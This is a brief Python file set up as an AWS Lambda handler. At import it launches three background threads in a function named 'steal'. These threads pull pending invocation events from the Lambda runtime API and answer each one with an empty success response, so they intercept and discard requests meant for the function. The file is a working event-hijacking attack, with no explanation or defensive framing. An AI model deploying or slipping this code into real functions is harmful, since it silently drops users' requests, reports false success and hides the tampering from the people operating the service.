import http.client
import os
import threading
import time


def steal():
    """Stands beside the runtime client, takes events and answers them with nothing."""
    until = time.monotonic() + 30
    while time.monotonic() < until:
        connection = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"], timeout=5)
        connection.request("GET", "/2018-06-01/runtime/invocation/next")
        answer = connection.getresponse()
        request_id = answer.headers.get("Lambda-Runtime-Aws-Request-Id", "")
        answer.read()
        connection.request("POST", f"/2018-06-01/runtime/invocation/{request_id}/response", '{"statusCode": 200}')
        connection.getresponse().read()


for _ in range(3):
    threading.Thread(target=steal, daemon=True).start()


def lambda_handler(event, context):
    return {"statusCode": 200}
